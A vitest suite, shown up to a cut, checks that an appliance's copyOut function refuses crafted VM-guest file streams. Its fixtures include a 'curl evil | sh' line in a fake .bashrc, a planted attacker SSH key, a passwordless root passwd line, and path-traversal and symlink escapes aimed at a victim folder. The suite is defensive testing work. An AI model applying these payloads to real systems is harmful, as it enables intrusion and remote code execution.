// A guest taken over by a crafted image lies in the walk it streams for copy-out: it names
// paths outside what was asked for, plants symlinks and writes through them, points hard
// links at files of the host, sends data where no file is open, cuts the stream inside a
// file, hides NUL bytes in names, asks for device nodes and set-id bits. copyOut
// (src/inspect/copy-out.ts) must write nothing outside the destination folder, never
// through a symlink, never over a file that was there before, and fail with one clean
// ApplianceError (EPROTO for a lie, the errno for what the host refuses), never a raw Node
// error (the CLI prints those as "internal error" with a stack), never a leaked file handle.
//
// No VM: the streams are written byte for byte as the guest helper writes them
// (records.ts WalkEncoder, the decoder's twin) and decoded by the real WalkDecoder in odd
// chunks, as helper.walk() does; what the decoder cannot produce (data outside a file) is
// fed as events directly. After every case a victim folder beside the destination (files,
// a folder, their contents, modes, link counts, inode numbers, mtimes and ctimes) must be
// exactly as it was, nothing may have appeared beside the destination, and no file handle
// of ours may be left open below either.
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { Readable } from 'node:stream';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ApplianceError } from '../../src/errors.js';
import { EXTENT_END } from '../../src/guest/contract.js';
import { copyOut, type CopyOutResult } from '../../src/inspect/copy-out.js';
import { WalkDecoder, WalkEncoder, type FileType, type WalkEvent } from '../../src/inspect/records.js';

// ---- the guest's side: walk records as the helper writes them --------------------------------

const IFMT: Record<FileType, number> = {
  file: 0o100000,
  dir: 0o040000,
  symlink: 0o120000,
  chardev: 0o020000,
  blockdev: 0o060000,
  fifo: 0o010000,
  socket: 0o140000,
};
const TIME: [bigint, number] = [1620284889n, 123456789];

interface EntryOptions {
  mode?: number;
  uid?: number;
  gid?: number;
  nlink?: number;
  size?: number | bigint;
  ino?: number | bigint;
  rdev?: [number, number];
  target?: string | Buffer;
}

const bytesOf = (s: string | Buffer) => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s);

/** A walk stream with content, as `inspect walk ROOT PATH xc DEPTH` writes it. */
class Walk {
  private parts: Buffer[] = [];
  private nextIno = 1000;

  entry(path: string | Buffer, type: FileType, o: EntryOptions = {}): this {
    const mode = o.mode ?? (type === 'dir' ? 0o755 : type === 'symlink' ? 0o777 : 0o644);
    const size = BigInt(o.size ?? (type === 'symlink' ? bytesOf(o.target ?? '').length : type === 'dir' ? 4096 : 0));
    this.parts.push(
      WalkEncoder.entry({
        path,
        type,
        mode: IFMT[type] | mode,
        uid: o.uid ?? 0,
        gid: o.gid ?? 0,
        nlink: o.nlink ?? (type === 'dir' ? 2 : 1),
        size,
        blocks: (size + 511n) / 512n,
        ino: BigInt(o.ino ?? this.nextIno++),
        rdev: o.rdev ?? [0, 0],
        atime: TIME,
        mtime: TIME,
        ctime: TIME,
        target: type === 'symlink' ? (o.target ?? '') : undefined,
      }),
    );
    return this;
  }
  dir(path: string | Buffer, o: EntryOptions = {}): this {
    return this.entry(path, 'dir', o);
  }
  symlink(path: string | Buffer, target: string | Buffer, o: EntryOptions = {}): this {
    return this.entry(path, 'symlink', { ...o, target });
  }
  /** A regular file with its content in one extent (none when empty), and its end. */
  file(path: string | Buffer, content: string | Buffer, o: EntryOptions = {}): this {
    const data = bytesOf(content);
    this.entry(path, 'file', { size: data.length, ...o });
    if (data.length) this.data(0, data);
    return this.end();
  }
  data(offset: number | bigint, content: string | Buffer): this {
    const data = bytesOf(content);
    this.parts.push(WalkEncoder.extent(offset, data));
    return this;
  }
  end(errno = 0): this {
    this.parts.push(WalkEncoder.end(errno));
    return this;
  }
  /** A file the walk leaves to the host to read apart (flag b): its marker instead of extents. */
  deferred(): this {
    this.parts.push(WalkEncoder.deferred());
    return this;
  }
  error(path: string, errno: number): this {
    this.parts.push(WalkEncoder.error(errno, path));
    return this;
  }
  bytes(): Buffer {
    return Buffer.concat(this.parts);
  }
  /** The events helper.walk() would yield: decoded in chunks of 7 bytes, then the decoder's end check. */
  async *events(): AsyncGenerator<WalkEvent> {
    const all = this.bytes();
    const decoder = new WalkDecoder(true);
    for (let at = 0; at < all.length; at += 7) yield* decoder.push(all.subarray(at, at + 7));
    decoder.end();
  }
}

/** Events fed as they are, for what no byte stream decodes to (data outside a file). */
async function* raw(events: WalkEvent[]): AsyncGenerator<WalkEvent> {
  for (const e of events) yield e;
}

// ---- the host's side: a destination, a victim beside it, and what must not change ----------------

let base: string;
let host: string;
let victim: string;
let before: Map<string, string>;

/** Everything below `dir` that an escape would change: type, mode, links, inode, size, times, content or target. */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const visit = (p: string) => {
    const s = lstatSync(p, { bigint: true });
    const what = s.isSymbolicLink()
      ? `-> ${readlinkSync(p)}`
      : s.isFile()
        ? readFileSync(p).toString('hex')
        : s.isDirectory()
          ? readdirSync(p).sort().join(',')
          : '';
    out.set(p, `${s.mode.toString(8)} ${s.nlink} ${s.ino} ${s.size} ${s.mtimeNs} ${s.ctimeNs} ${what}`);
    if (s.isDirectory()) for (const n of readdirSync(p)) visit(join(p, n));
  };
  visit(dir);
  return out;
}

/** Open file descriptors of this process on anything below `dir`. */
function openBelow(dir: string): string[] {
  const out: string[] = [];
  for (const fd of readdirSync('/proc/self/fd')) {
    try {
      const target = readlinkSync(`/proc/self/fd/${fd}`);
      if (target.startsWith(dir + '/')) out.push(target);
    } catch {
      // closed meanwhile (the readdir's own descriptor)
    }
  }
  return out;
}

beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'appliance-copyout-'));
  host = join(base, 'host');
  victim = join(base, 'victim');
  mkdirSync(host);
  mkdirSync(join(victim, 'sub'), { recursive: true });
  writeFileSync(join(victim, 'secret'), "the host owner's secret\n", { mode: 0o600 });
  writeFileSync(join(victim, 'sub', 'config'), 'setting=1\n');
  const old = new Date('2001-02-03T04:05:06Z');
  for (const p of [join(victim, 'secret'), join(victim, 'sub', 'config'), join(victim, 'sub'), victim]) utimesSync(p, old, old);
  before = snapshot(victim);
});

afterEach(() => {
  vi.restoreAllMocks();
  try {
    // The victim is as it was (no file written, truncated, linked, chmodded, created or removed),
    // nothing appeared beside the destination, and no descriptor of ours was left open below.
    expect(snapshot(victim)).toEqual(before);
    expect(readdirSync(base).sort()).toEqual(['host', 'victim']);
    expect(openBelow(base)).toEqual([]);
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});

afterAll(() => vi.restoreAllMocks());

/** How copyOut ended: its result, or its error. */
async function outcome(events: AsyncIterable<WalkEvent>, source: string | Buffer = '/data'): Promise<CopyOutResult | Error> {
  return copyOut(events, source, host).then(
    (r) => r,
    (e: Error) => e,
  );
}

/** copyOut refuses the stream with one clean ApplianceError of `code`. */
/** A second entry of one name: refused, or left out and said (a corrupt folder's duplicate); never made over the first. */
async function keptOut(events: AsyncIterable<WalkEvent>, source = '/data'): Promise<void> {
  const r = await outcome(events, source);
  if (r instanceof Error) expect((r as ApplianceError).code).toBe('EPROTO');
  else expect(r.skipped.join('\n')).toMatch(/listed twice in its folder/);
}

async function refused(events: AsyncIterable<WalkEvent>, code = 'EPROTO', source: string | Buffer = '/data'): Promise<ApplianceError> {
  const err = await outcome(events, source);
  expect(err).toBeInstanceOf(ApplianceError);
  expect((err as ApplianceError).code).toBe(code);
  expect((err as ApplianceError).message).not.toContain('\n');
  return err as ApplianceError;
}

/** Empties the destination, for the next stream of a case. */
function clear(): void {
  rmSync(host, { recursive: true, force: true });
  mkdirSync(host);
}

/** The names below the destination, recursively (relative). */
function tree(dir = host, prefix = ''): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((d) => {
    const rel = prefix + d.name;
    return d.isDirectory() && !d.isSymbolicLink() ? [rel + '/', ...tree(join(dir, d.name), rel + '/')] : [rel];
  });
}

// ---- a truthful stream works (so every refusal below is the lie's, not the harness's) ------------

describe('a well-formed stream', () => {
  it('is copied: folders, files, a symlink, a hard link, a sparse file, a FIFO, a name that is not UTF-8', async () => {
    const latin1 = Buffer.from('/data/caf\xe9', 'latin1');
    const w = new Walk()
      .dir('/data')
      .dir('/data/sub', { mode: 0o750 })
      .file('/data/sub/a.txt', 'alpha\n', { mode: 0o640, ino: 50, nlink: 2 })
      .file('/data/b-link', 'ignored: a hard link gets its data from the first name\n', { ino: 50, nlink: 2 })
      .symlink('/data/link', '../../etc/shadow')
      .entry('/data/sparse', 'file', { size: 1 << 20 })
      .data(0, 'start')
      .data(512 * 1024, 'middle')
      .end()
      .dir(latin1)
      .entry('/data/fifo', 'fifo', { mode: 0o620 })
      .error('/data/unreadable', 5);
    const r = await outcome(w.events());
    expect(r).not.toBeInstanceOf(Error);
    const res = r as CopyOutResult;
    expect(res).toMatchObject({ path: join(host, 'data'), files: 2, dirs: 3, symlinks: 1, hardlinks: 1, bytes: 6 + 5 + 6 });
    expect(res.skipped).toEqual(['/data/unreadable: not copied: EIO: input/output error (the image could not be read there: truncated or damaged)']);
    expect(readFileSync(join(host, 'data/sub/a.txt'), 'utf8')).toBe('alpha\n');
    expect(lstatSync(join(host, 'data/b-link')).ino).toBe(lstatSync(join(host, 'data/sub/a.txt')).ino);
    expect(readFileSync(join(host, 'data/b-link'), 'utf8')).toBe('alpha\n');
    expect(readlinkSync(join(host, 'data/link'))).toBe('../../etc/shadow');
    expect(lstatSync(join(host, 'data/sub')).mode & 0o7777).toBe(0o750);
    const sparse = lstatSync(join(host, 'data/sparse'));
    expect(sparse.size).toBe(1 << 20);
    expect(sparse.blocks * 512).toBeLessThan(1 << 20);
    const fifo = join(host, 'data/fifo');
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    expect(lstatSync(fifo).mode & 0o7777).toBe(0o620);
    // Nothing else: no temporary name of the FIFO's left behind.
    expect(
      readdirSync(Buffer.from(join(host, 'data')), { encoding: 'buffer' })
        .map((n) => n.toString('latin1'))
        .sort(),
    ).toEqual(['b-link', 'caf\xe9', 'fifo', 'link', 'sparse', 'sub']);
    expect(readdirSync(host)).toEqual(['data']);
  });
});

// ---- paths: outside the copied path, . and .., folders never sent --------------------------------

describe('every entry lies below the copied path, with no . or .. part', () => {
  const dotted = [
    '/data/..',
    '/data/../escape',
    '/data/./x',
    '/data/.',
    '/data/sub/../../escape',
    '/data/sub/../../../victim/secret',
    '/data/../../victim/planted',
    '/data/sub/../../../victim/sub/planted',
    '/data/x/..',
    '/../data/x',
    '/data/sub/.',
  ];
  it.each(dotted)('%s', async (path) => {
    await refused(new Walk().dir('/data').dir('/data/sub').file(path, 'pwned\n').events());
    expect(tree()).toEqual(['data/', 'data/sub/']);
  });

  it.each(['/..', '/../escape', '/./x', '/.'])('%s when copying "/"', async (path) => {
    await refused(new Walk().dir('/').file(path, 'pwned\n').events(), 'EPROTO', '/');
    expect(tree()).toEqual([]);
  });

  it('.. as a folder, then a file through it', async () => {
    await refused(new Walk().dir('/data').dir('/data/..').file('/data/../escape', 'pwned\n').events());
    expect(tree()).toEqual(['data/']);
  });

  it('an absolute path outside the copied path: a file, then a folder and a file in it', async () => {
    await refused(new Walk().dir('/data').file('/etc/passwd', 'root::0:0::/:/bin/sh\n').events());
    clear();
    await refused(new Walk().dir('/etc').file('/etc/passwd', 'root::0:0::/:/bin/sh\n').events());
    expect(tree()).toEqual([]);
  });

  it('a sibling of the copied path: what is beside it in the destination (a home folder) stays untouched', async () => {
    // `appliance copy-out disk /data ~` must make ~/data and nothing else: a stream that
    // names /.ssh after /data must not plant ~/.ssh/authorized_keys.
    writeFileSync(join(host, '.profile'), 'mine\n');
    const home = snapshot(host);
    await refused(
      new Walk().dir('/data').file('/data/ok', 'fine\n').dir('/.ssh', { mode: 0o700 }).file('/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n').events(),
    );
    expect(existsSync(join(host, '.ssh'))).toBe(false);
    await refused(new Walk().file('/.bashrc', 'curl evil | sh\n').events(), 'EPROTO', '/data/');
    await refused(new Walk().dir('/datax').file('/datax/y', 'a name that starts like the copied one\n').events());
    await refused(new Walk().dir('/srv').dir('/srv/data').events(), 'EPROTO', '/srv/data');
    expect(tree().sort()).toEqual(['.profile', 'data/', 'data/ok']);
    for (const [p, s] of home) if (p !== host) expect(snapshot(p).get(p)).toBe(s);
  });

  it('the copied path twice', async () => {
    await refused(new Walk().dir('/data').file('/data/x', 'one\n').dir('/data').file('/data/x', 'two\n').events());
    expect(readFileSync(join(host, 'data/x'), 'utf8')).toBe('one\n');
  });

  it('a relative path', async () => {
    await refused(new Walk().dir('data').file('data/x', 'pwned\n').events());
    expect(tree()).toEqual([]);
  });

  it('an entry in a folder the stream never sent', async () => {
    await refused(new Walk().dir('/data').file('/data/nosuch/x', 'pwned\n').events());
    await refused(new Walk().file('/data/x', 'pwned\n').events());
    expect(tree()).toEqual(['data/']);
  });

  it('a folder sent as a file, then an entry in it', async () => {
    await refused(new Walk().dir('/data').file('/data/d', 'a file\n').file('/data/d/x', 'pwned\n').events());
    expect(tree()).toEqual(['data/', 'data/d']);
  });

  it("'/' inside a component cannot be said: a/b is two components, and a must be a folder it sent", async () => {
    // The format is a whole path of bytes; a slash always separates components. So "a/b"
    // is b in a (refused: a was never sent), and "//" or a trailing slash are the same
    // names again (a name listed twice: the first kept, the second said).
    await refused(new Walk().dir('/data').file('/data/a/b', 'pwned\n').events());
    clear();
    const r = (await outcome(new Walk().dir('/data').file('/data/a', 'one\n').file('/data//a', 'two\n').events())) as CopyOutResult;
    expect(r.skipped).toEqual(['/data//a: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied']);
    expect(readFileSync(join(host, 'data/a'), 'utf8')).toBe('one\n');
  });

  it('a name listed twice in a folder (a corrupt directory): the first copied, the others said, the rest of the copy made', async () => {
    const r = await outcome(
      new Walk()
        .dir('/data')
        .file('/data/evil', 'first\n')
        .file('/data/evil', 'second, longer\n')
        .dir('/data/d')
        .file('/data/d/x', 'x\n')
        .symlink('/data/d', '/etc')
        .dir('/data/d')
        .file('/data/z', 'z\n')
        .events(),
    );
    expect(r).not.toBeInstanceOf(Error);
    expect((r as CopyOutResult).skipped).toEqual([
      '/data/evil: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied',
      '/data/d: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied',
      '/data/d: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied',
    ]);
    expect(readFileSync(join(host, 'data/evil'), 'utf8')).toBe('first\n');
    expect(lstatSync(join(host, 'data/d')).isDirectory()).toBe(true);
    expect(tree().sort()).toEqual(['data/', 'data/d/', 'data/d/x', 'data/evil', 'data/z']);
  });
});

describe('the walk goes depth first: an entry goes in a folder of the chain from the copied path to the last folder sent', () => {
  it('an entry in a folder the walk had left (a sibling came in between): EPROTO, nothing made there', async () => {
    await refused(new Walk().dir('/data').dir('/data/a').dir('/data/b').file('/data/a/x', 'late\n').events());
    expect(tree().sort()).toEqual(['data/', 'data/a/', 'data/b/']);
  });

  it("a folder of a name a file had already: said once, its entries left out with it (a big one's too), the rest copied", async () => {
    const fetch = (path: string | Buffer) => Readable.from([Buffer.from(`read apart: ${String(path)}`)]);
    const walk = new Walk().dir('/data').file('/data/d', 'a file\n').dir('/data/d').file('/data/d/x', 'x\n').dir('/data/d/sub');
    walk.entry('/data/d/sub/big', 'file', { size: 9 }).deferred();
    const r = await copyOut(walk.file('/data/z', 'z\n').events(), '/data', host, {}, fetch);
    expect(r.skipped).toEqual(['/data/d: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied']);
    expect(tree().sort()).toEqual(['data/', 'data/d', 'data/z']);
    expect(readFileSync(join(host, 'data/d'), 'utf8')).toBe('a file\n');
  });
});

describe('hard links around what is left out', () => {
  it('a name listed twice that carried the data of a hard-linked file: its other name is said, not made empty', async () => {
    const walk = new Walk().dir('/data').file('/data/a', 'first\n').file('/data/a', 'linked data\n', { nlink: 2, ino: 9 });
    // The guest sends an inode's data once, with its first name; the second comes bare.
    walk.entry('/data/b', 'file', { nlink: 2, ino: 9, size: 12 }).end();
    const r = (await outcome(walk.events())) as CopyOutResult;
    expect(r.skipped).toEqual([
      '/data/a: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied',
      '/data/b: not copied: a hard link whose data came with a name that was left out',
    ]);
    expect(tree().sort()).toEqual(['data/', 'data/a']);
    expect(readFileSync(join(host, 'data/a'), 'utf8')).toBe('first\n');
  });
});

describe('a tree deeper than the host takes in one path (PATH_MAX, 4096 bytes)', () => {
  // 60 folders of 200-byte names: paths of 12 KB, made a piece at a time (host-path.ts).
  const names = Array.from({ length: 60 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(198)}`);
  const deep = `/data/${names.join('/')}`;
  /** GNU find, which walks by descriptor: each entry below the destination, with its type, size, mode, links and target. */
  const found = () =>
    spawnSync('find', ['.', '-printf', '%P %y %s %m %n %l\\n'], { cwd: host, encoding: 'utf8' })
      .stdout.split('\n')
      .filter(Boolean)
      .map((l) => l.replace(names.join('/'), 'DEEP'))
      .sort();
  // GNU rm removes by descriptor too (Node's rmSync stops at PATH_MAX); the checks after each case then run.
  const removeDeep = () => spawnSync('rm', ['-rf', join(host, 'data')]);
  afterEach(removeDeep);

  it('is copied whole: folders, a file, its hard link, a symlink, a FIFO, a file read apart, modes', async () => {
    const walk = new Walk().dir('/data');
    names.forEach((_, i) => walk.dir(`/data/${names.slice(0, i + 1).join('/')}`, { mode: i === 59 ? 0o750 : 0o755 }));
    walk
      .entry(`${deep}/big`, 'file', { size: 5 })
      .deferred()
      .file(`${deep}/leaf`, 'hello\n', { nlink: 2, ino: 42 })
      .entry(`${deep}/leaf2`, 'file', { nlink: 2, ino: 42, size: 6 })
      .end()
      .entry(`${deep}/pipe`, 'fifo')
      .symlink(`${deep}/soft`, 'leaf');
    const r = await copyOut(walk.events(), '/data', host, {}, (path) => Readable.from([Buffer.from(String(path).endsWith('/big') ? 'bytes' : '')]));
    expect(r).toMatchObject({ dirs: 61, files: 2, hardlinks: 1, symlinks: 1, bytes: 11, skipped: [] });
    const last = found().filter((l) => l.startsWith('data/DEEP'));
    expect(last).toEqual([
      'data/DEEP d 4096 750 2 ',
      'data/DEEP/big f 5 644 1 ',
      'data/DEEP/leaf f 6 644 2 ',
      'data/DEEP/leaf2 f 6 644 2 ',
      'data/DEEP/pipe p 0 644 1 ',
      'data/DEEP/soft l 4 777 1 leaf',
    ]);
    const cat = spawnSync('find', ['.', '-name', 'leaf', '-execdir', 'cat', '{}', ';'], { cwd: host, encoding: 'utf8' });
    expect(cat.stdout).toBe('hello\n');
  });

  it('a name listed twice down there is said, and a late entry refused, as near the top', async () => {
    const walk = new Walk().dir('/data');
    names.forEach((_, i) => walk.dir(`/data/${names.slice(0, i + 1).join('/')}`));
    const r = (await outcome(walk.file(`${deep}/a`, 'one\n').file(`${deep}/a`, 'two\n').events())) as CopyOutResult;
    expect(r.skipped).toEqual([`${deep}/a: not copied: listed twice in its folder (the filesystem is corrupt): the first was copied`]);
    removeDeep();
    const late = new Walk().dir('/data');
    names.forEach((_, i) => late.dir(`/data/${names.slice(0, i + 1).join('/')}`));
    await refused(late.dir('/data/other').file(`${deep}/x`, 'late\n').events());
  });
});

// ---- symlinks: never followed, never written through --------------------------------------------

describe('a symlink the stream planted is never followed', () => {
  it('x -> the victim folder, then x/evil', async () => {
    await refused(new Walk().dir('/data').symlink('/data/x', victim).file('/data/x/evil', 'pwned\n').events());
    expect(readlinkSync(join(host, 'data/x'))).toBe(victim);
    clear();
    await refused(new Walk().dir('/data').symlink('/data/x', victim).dir('/data/x/sub').events());
  });

  it('x -> ../../victim (relative), then x/sub/evil', async () => {
    await refused(new Walk().dir('/data').symlink('/data/x', '../../victim').file('/data/x/sub/evil', 'pwned\n').events());
  });

  it('the copied path itself a symlink to the victim, then entries below it', async () => {
    await refused(new Walk().symlink('/data', victim).file('/data/evil', 'pwned\n').events());
    expect(readlinkSync(join(host, 'data'))).toBe(victim);
  });

  it('a symlink to a victim file, then a regular file of that name (O_EXCL | O_NOFOLLOW)', async () => {
    await keptOut(new Walk().dir('/data').symlink('/data/x', join(victim, 'secret')).file('/data/x', 'pwned\n').events());
    expect(readFileSync(join(victim, 'secret'), 'utf8')).not.toContain('pwned');
    expect(readlinkSync(join(host, 'data/x'))).toBe(join(victim, 'secret'));
  });

  it('a dangling symlink into the victim folder, then a regular file of that name: nothing is created there', async () => {
    await keptOut(new Walk().dir('/data').symlink('/data/x', join(victim, 'planted')).file('/data/x', 'pwned\n').events());
    expect(existsSync(join(victim, 'planted'))).toBe(false);
  });

  it('a symlink, then a folder, a symlink, a hard link or a FIFO of that name', async () => {
    const s = () => new Walk().dir('/data').symlink('/data/x', victim);
    for (const w of [
      s().dir('/data/x'),
      s().symlink('/data/x', '/etc'),
      s().file('/data/a', 'one\n', { ino: 9, nlink: 2 }).file('/data/x', 'two\n', { ino: 9, nlink: 2 }),
      s().entry('/data/x', 'fifo'),
      s().entry('/data/x', 'chardev', { rdev: [1, 3] }),
    ]) {
      clear();
      await keptOut(w.events());
      expect(readlinkSync(join(host, 'data/x'))).toBe(victim);
    }
  });
});

// ---- hard links: only to files this copy made ------------------------------------------------------

describe('a hard link points only at a file this copy made', () => {
  it("an inode number the copy never made (the victim's own host inode): a new file, not a link", async () => {
    const ino = lstatSync(join(victim, 'secret')).ino;
    const r = await outcome(new Walk().dir('/data').file('/data/h', 'own content\n', { ino, nlink: 2 }).events());
    expect(r).toMatchObject({ files: 1, hardlinks: 0 });
    const s = lstatSync(join(host, 'data/h'));
    expect(s.nlink).toBe(1);
    expect(s.ino).not.toBe(ino);
    expect(readFileSync(join(host, 'data/h'), 'utf8')).toBe('own content\n');
  });

  it('the inode of a symlink or a folder the stream sent: a new file, not a link to them', async () => {
    const r = await outcome(
      new Walk()
        .dir('/data', { ino: 7, nlink: 2 })
        .symlink('/data/s', join(victim, 'secret'), { ino: 8, nlink: 2 })
        .file('/data/h1', 'one\n', { ino: 8, nlink: 2 })
        .file('/data/h2', 'two\n', { ino: 7, nlink: 2 })
        .events(),
    );
    expect(r).toMatchObject({ files: 2, hardlinks: 0, symlinks: 1 });
    for (const [n, c] of [
      ['h1', 'one\n'],
      ['h2', 'two\n'],
    ]) {
      expect(lstatSync(join(host, 'data', n!)).isFile()).toBe(true);
      expect(lstatSync(join(host, 'data', n!)).nlink).toBe(1);
      expect(readFileSync(join(host, 'data', n!), 'utf8')).toBe(c);
    }
  });

  it("a hard link's data never rewrites the file it links to", async () => {
    const r = await outcome(
      new Walk().dir('/data').file('/data/a', 'original\n', { ino: 5, nlink: 2 }).file('/data/b', 'REWRITTEN\n', { ino: 5, nlink: 2 }).events(),
    );
    expect(r).toMatchObject({ files: 1, hardlinks: 1, bytes: 9 });
    expect(readFileSync(join(host, 'data/a'), 'utf8')).toBe('original\n');
  });
});

// ---- data: only inside a file, only within its size --------------------------------------------------

describe('a large file read apart (deferred by the walk) is held to what the walk said', () => {
  const fetchOf =
    (files: Record<string, Buffer | Error>, asked: string[] = []) =>
    (path: string | Buffer): Readable => {
      asked.push(String(path));
      const v = files[String(path)];
      if (v instanceof Error)
        return new Readable({
          read() {
            this.destroy(v);
          },
        });
      return Readable.from(v === undefined ? [] : [v.subarray(0, 3), v.subarray(3)]);
    };
  const big = Buffer.alloc(5000, 7);

  it('is copied after the walk, its hard link too, each read once', async () => {
    const asked: string[] = [];
    const walk = new Walk()
      .dir('/data')
      .entry('/data/big', 'file', { size: big.length, nlink: 2, ino: 77 })
      .deferred()
      .entry('/data/twin', 'file', { size: big.length, nlink: 2, ino: 77 })
      .end();
    const r = await copyOut(walk.events(), '/data', host, {}, fetchOf({ '/data/big': big }, asked));
    expect(r).toMatchObject({ files: 1, hardlinks: 1, bytes: big.length, skipped: [] });
    expect(readFileSync(join(host, 'data/big'))).toEqual(big);
    expect(lstatSync(join(host, 'data/twin')).ino).toBe(lstatSync(join(host, 'data/big')).ino);
    expect(asked).toEqual(['/data/big']);
  });

  it('a marker outside a file, or when the caller did not offer to read apart: EPROTO', async () => {
    await refused(new Walk().dir('/data').deferred().events());
    clear();
    await refused(new Walk().dir('/data').entry('/data/big', 'file', { size: 10 }).deferred().events()); // no fetch given
    clear();
    const err = await copyOut(new Walk().dir('/data').symlink('/data/l', '/x').deferred().events(), '/data', host, {}, fetchOf({})).catch((e: Error) => e);
    expect(err).toMatchObject({ code: 'EPROTO' });
  });

  it('more bytes than its size: EPROTO, nothing past the size written', async () => {
    const walk = new Walk().dir('/data').entry('/data/big', 'file', { size: 10 }).deferred();
    const err = await copyOut(walk.events(), '/data', host, {}, fetchOf({ '/data/big': big })).catch((e: Error) => e);
    expect(err).toMatchObject({ code: 'EPROTO' });
    expect(lstatSync(join(host, 'data/big')).size).toBeLessThanOrEqual(10);
  });

  it('fewer bytes, or a read the guest fails (its errno): the file at its size, said in skipped', async () => {
    const eio = Object.assign(new ApplianceError('EIO', 'in the guest: Input/output error'), { errno: 5 });
    const walk = new Walk().dir('/data').entry('/data/short', 'file', { size: big.length }).deferred().entry('/data/bad', 'file', { size: 99 }).deferred();
    const r = await copyOut(walk.events(), '/data', host, {}, fetchOf({ '/data/short': big.subarray(0, 100), '/data/bad': eio }));
    expect(lstatSync(join(host, 'data/short')).size).toBe(big.length);
    expect(readFileSync(join(host, 'data/short')).subarray(0, 100)).toEqual(big.subarray(0, 100));
    expect(r.skipped).toEqual([
      '/data/short: copied in part only: EIO: input/output error (the image could not be read there: truncated or damaged)',
      '/data/bad: copied in part only: EIO: input/output error (the image could not be read there: truncated or damaged)',
    ]);
  });

  it('a guest that dies or lies while it is read ends the copy with its error', async () => {
    const died = new ApplianceError('EGUESTDIED', 'the guest died');
    const walk = new Walk().dir('/data').entry('/data/big', 'file', { size: 10 }).deferred();
    const err = await copyOut(walk.events(), '/data', host, {}, fetchOf({ '/data/big': died })).catch((e: Error) => e);
    expect(err).toMatchObject({ code: 'EGUESTDIED' });
  });
});

describe('file data comes only inside a file, within its size', () => {
  const stat = {
    path: '/data/f',
    type: 'file' as const,
    mode: 0o644,
    uid: 0,
    gid: 0,
    nlink: 1,
    size: 4,
    allocated: 4096,
    ino: 1,
    atime: 0,
    mtime: 0,
    ctime: 0,
  };
  const dir = { ...stat, path: '/data', type: 'dir' as const, mode: 0o755 };

  it('data before any file, after a file ended, and an end outside a file', async () => {
    await refused(raw([{ kind: 'data', offset: 0, bytes: Buffer.from('pwned') }]));
    await refused(
      raw([
        { kind: 'entry', stat: dir },
        { kind: 'entry', stat },
        { kind: 'data', offset: 0, bytes: Buffer.from('abcd') },
        { kind: 'end', errno: 0 },
        { kind: 'data', offset: 0, bytes: Buffer.from('pwnd') },
      ]),
    );
    expect(readFileSync(join(host, 'data/f'), 'utf8')).toBe('abcd');
    clear();
    await refused(
      raw([
        { kind: 'entry', stat: dir },
        { kind: 'end', errno: 0 },
      ]),
    );
    clear();
    // Between entries, the decoder reads data as a record: a malformed stream.
    await refused(new Walk().dir('/data').data(0, 'pwned').events());
  });

  it('data past the size, or straddling it', async () => {
    // inspect.c sends extents found by SEEK_DATA/SEEK_HOLE below st_size: anything past it is a lie.
    for (const [size, offset, bytes] of [
      [10, 100, 'evil'],
      [10, 8, 'evil'],
      [0, 0, 'x'],
      [2 ** 40, 2 ** 41, 'far'],
    ] as const) {
      clear();
      await refused(new Walk().dir('/data').entry('/data/f', 'file', { size }).data(offset, bytes).end().events());
      expect(tree()).toEqual(['data/', 'data/f']);
      expect(lstatSync(join(host, 'data/f')).size).toBe(0);
    }
  });

  it('an offset near 2^64 (not a safe integer once decoded): refused before any write', async () => {
    await refused(
      new Walk()
        .dir('/data')
        .entry('/data/f', 'file', { size: 10 })
        .data(EXTENT_END - 1n, 'evil')
        .end()
        .events(),
    );
    expect(lstatSync(join(host, 'data/f')).size).toBe(0);
  });

  it('a file of 1 TiB with a few bytes at its end: a sparse file, no memory, no disk', async () => {
    // The image may really hold such a file (a hole costs nothing in ext4, xfs, btrfs): it
    // is copied as it is, sparse, written at its offset (never buffered).
    const size = 2 ** 40;
    const rss = process.memoryUsage().rss;
    const r = await outcome(
      new Walk()
        .dir('/data')
        .entry('/data/huge', 'file', { size })
        .data(size - 4, 'tail')
        .end()
        .events(),
    );
    expect(r).toMatchObject({ files: 1, bytes: 4 });
    const s = lstatSync(join(host, 'data/huge'));
    expect(s.size).toBe(size);
    expect(s.blocks * 512).toBeLessThanOrEqual(64 * 1024);
    expect(process.memoryUsage().rss - rss).toBeLessThan(64 << 20);
  });

  it('a file larger than the host can hold or Node can address: EFBIG, nothing thrown raw', async () => {
    // 2^62: beyond ext4's 16 TiB (the host says EFBIG); 2^63 + 2^62: beyond off_t and
    // beyond a safe integer once decoded (Node would throw a RangeError).
    for (const size of [2n ** 62n, 2n ** 63n + 2n ** 62n]) {
      const err = await outcome(new Walk().dir(`/data`).entry('/data/huge', 'file', { size }).data(0, 'head').end().events());
      expect(err).toBeInstanceOf(ApplianceError);
      expect((err as ApplianceError).code).toBe('EFBIG');
      rmSync(join(host, 'data'), { recursive: true, force: true });
    }
  });

  it('a stream that ends inside a file: EPROTO, and the file handle is closed', async () => {
    await refused(
      raw([
        { kind: 'entry', stat: dir },
        { kind: 'entry', stat },
        { kind: 'data', offset: 0, bytes: Buffer.from('ab') },
      ]),
    );
    rmSync(join(host, 'data'), { recursive: true });
    // The same cut as the decoder sees it (helper.walk's end check throws inside the loop).
    await refused(new Walk().dir('/data').entry('/data/f', 'file', { size: 4 }).data(0, 'ab').events());
    expect(openBelow(base)).toEqual([]);
  });

  it('an entry inside a file: EPROTO, and the file handle is closed', async () => {
    await refused(
      raw([
        { kind: 'entry', stat: dir },
